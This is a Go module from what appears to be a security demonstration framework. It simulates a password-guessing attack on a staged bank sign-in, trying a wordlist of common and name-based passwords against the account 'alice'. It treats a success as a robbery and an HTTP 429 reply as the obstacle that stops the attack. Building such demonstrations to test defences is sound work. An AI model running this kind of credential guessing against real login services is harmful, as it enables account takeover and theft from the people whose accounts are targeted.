package attacker

import (
	"context"
	"errors"
	"fmt"
	"net/http"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/stages/catalog"
	"keyladder/stages/protect"
)

// A customer's name, which is no secret, and what people take for passwords.
const aCustomer = "alice"

var commonPasswords = []string{
	"123456", "password", "12345678", "qwerty", "111111", "letmein", "welcome1", "iloveyou",
	"alice", "alice123", "Alice2016!", "harbour", "harbourbank",
}

// passwordGuess signs in with one common password after the other, from a program of
// its own at the public address. It needs no app: only somebody's name, and time.
//
//keyladder:code attack-password-guess
func passwordGuess(ctx context.Context, g *attack.Given) (attack.Result, error) {
	p, err := attack.NewProgram(g, protect.Identity{ClientID: g.ClientID})
	if err != nil {
		return attack.Result{}, err
	}
	defer p.Close()
	p.Hasty = true // an attack that has to wait has been stopped
	try := p.SignIn
	if g.Stage.Auth.Issuer == catalog.MediatorIssuer {
		g.Say("The mediator opens no page for a program that is not the app. The page on which customers type their passwords is the bank's, and the address that the mediator sends them to stands in everybody's browser.")
		try = p.SignInAtBank
	}
	for i, password := range commonPasswords {
		got, err := try(ctx, aCustomer, password)
		var refused *attack.Refusal
		switch {
		case err == nil:
			g.Say("Password number %d of the list is right.", i+1)
			if err := p.Rob(ctx); err != nil {
				return attack.Stopped(err)
			}
			return attack.Result{Claim: true}, nil
		case got.Status == http.StatusTooManyRequests:
			return attack.Result{Obstacle: fmt.Sprintf("the API wants to be left alone after %d passwords", i+1)}, nil
		case !errors.As(err, &refused):
			return attack.Result{}, err
		case i == 0, i == len(commonPasswords)-1:
			g.Say("Tried password number %d of the list: %s.", i+1, refused.Obstacle)
		}
		if i == len(commonPasswords)-1 {
			return attack.Stopped(err)
		}
	}
	return attack.Result{}, errors.New("there are no passwords to try")
}
